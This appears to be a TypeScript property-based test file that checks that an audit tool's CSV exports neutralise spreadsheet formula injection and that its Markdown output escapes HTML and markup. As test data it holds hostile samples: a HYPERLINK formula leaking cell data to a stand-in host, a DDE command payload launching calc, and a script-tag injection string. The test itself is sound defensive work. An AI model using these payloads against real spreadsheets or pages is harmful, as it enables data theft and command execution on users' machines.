import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { configSchema } from '../../src/config/schema.js';
import type { AuditRow, SupervisorAudit } from '../../src/recommend/supervisor-audit.js';
import { FORMULA_START } from '../../src/render/csv.js';
import { escapeMarkdown } from '../../src/render/markdown.js';
import { renderSupervisorAudit } from '../../src/render/render-supervisor-audit.js';
import { tableToCsv } from '../../src/web/export-table.js';
import type { PageData, Table } from '../../src/web/pages/page-data.js';
import { parseStrictCsv } from '../web/strict-csv.js';

/**
 * Every CSV qingqun writes — the audit CLI's and the dashboard's exports — goes through one writer
 * (src/render/csv.ts); no cell a spreadsheet reads may start a formula, whatever names the chats
 * carry. Markdown prints names and excerpts, never markup.
 */

const row = (unit: string | null): AuditRow => ({
  unit,
  people: 32,
  groups: 6,
  groupsLastWeek: 5,
  groupsFirstWeek: null,
  created: 1,
  dissolved: 0,
  zombies: 1,
  messages: 536,
  offHoursShare: 0.209,
  duplicateRate: null,
  rollCalls: 2,
  atAllMessages: 4,
});

function auditNaming(units: string[], groups: string[]): SupervisorAudit {
  return {
    week: '2026-W47',
    from: '2026-11-15T16:00:00.000Z',
    to: '2026-11-22T16:00:00.000Z',
    timezone: 'Asia/Shanghai',
    firstWeek: '2026-W44',
    scope: units,
    minPeople: 5,
    total: row(null),
    units: units.map(row),
    owners: { owners: 12, distribution: [{ groups: '1', owners: 8 }] },
    breaches: groups.map((groupName, i) => ({
      policy: 'maxAtAllPerGroupPerWeek',
      unit: units[i % Math.max(1, units.length)] ?? null,
      groupId: groupName,
      groupName,
      value: 4,
      limit: 3,
    })),
    hiddenBreaches: 0,
    policies: configSchema.parse({}).recommend.policies,
  };
}

const page = {
  page: 'overview',
  week: '2026-W47',
  timezone: 'Asia/Shanghai',
  scope: null,
  minPeople: 5,
  subject: null,
} as PageData;

/** Names built to be hostile: formula triggers first, quotes, commas, CR/LF, then anything. */
const hostileName = fc.oneof(
  fc.string(),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', "'"), fc.string())
    .map(([a, b]) => a + b),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    '=1+1',
    '@SUM(A1:A9)',
    '-2+3',
    "+cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
  ),
);

/** A cell that is a number the writer put there (numbers, not texts, may start with `-`). */
const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/;

function expectNoFormulaCell(csv: string): void {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  const rows = parseStrictCsv(csv.slice(1));
  for (const r of rows) {
    for (const cell of r) {
      if (!NUMBER.test(cell)) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
    }
  }
}

describe('no cell of any CSV begins with a formula trigger', () => {
  it('the audit CLI’s CSV, for any unit and group names', () => {
    fc.assert(
      fc.property(
        fc.array(hostileName, { maxLength: 6 }),
        fc.array(hostileName, { maxLength: 6 }),
        (u, g) => {
          expectNoFormulaCell(renderSupervisorAudit(auditNaming(u, g), 'csv', 'zh-CN'));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('the dashboard’s CSV exports, for any text in any column and any heading', () => {
    fc.assert(
      fc.property(
        hostileName,
        fc.array(
          fc.tuple(hostileName, fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }))),
          {
            maxLength: 8,
          },
        ),
        (label, cells) => {
          const table: Table = {
            name: 't',
            columns: [
              { key: 'group', kind: 'text' },
              { key: 'unit', kind: 'enum' },
              { key: 'n', kind: 'number', label },
            ],
            rows: cells.map(([text, n]) => ({ cells: { group: text, unit: text, n } })),
          };
          expectNoFormulaCell(tableToCsv(table, page));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('the audit CSV neutralises a HYPERLINK unit name, with a BOM and CRLF like the dashboard', () => {
    const csv = renderSupervisorAudit(
      auditNaming(['=HYPERLINK("http://evil.example","点此")'], ['@SUM(1)']),
      'csv',
      'en',
    );
    const rows = parseStrictCsv(csv.slice(1));
    expect(csv.slice(0, 4)).toBe('\uFEFFrow');
    expect(rows[1]?.[1]).toBe('\'=HYPERLINK("http://evil.example","点此")');
    expect(rows.at(-1)?.[16]).toBe("'@SUM(1)");
    expect(csv.split('\n').every((l, i, all) => i === all.length - 1 || l.endsWith('\r'))).toBe(true);
  });
});

describe('Markdown prints names and excerpts, never markup', () => {
  const evil = '<script>alert(1)</script> *x* [a](http://e) | `c` \\ ~s~ _u_\n# head';

  it('escapes HTML, inline Markdown and line breaks', () => {
    const out = escapeMarkdown(evil);
    expect(out).not.toMatch(/<|\n/);
    expect(out).toContain('&lt;script&gt;');
    // Every markup character is preceded by a backslash.
    expect(out.replace(/\\[\\`*_[\]|~]/g, '')).not.toMatch(/[\\`*_[\]|~]/);
  });

  it('the audit in Markdown emits no raw <script> from unit or group names, and keeps its table', () => {
    const md = renderSupervisorAudit(auditNaming([evil, '红旗村'], [evil]), 'md', 'zh-CN');
    expect(md).not.toContain('<script');
    expect(md).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    const table = md.split('\n').filter((l) => l.startsWith('|'));
    const cellsOf = (l: string) => l.replace(/\\\|/g, '').split('|').length;
    for (const l of table) expect(cellsOf(l)).toBe(cellsOf(table[0] as string));
    expect(md.split('\n').some((l) => l.startsWith('# head'))).toBe(false);
  });
});
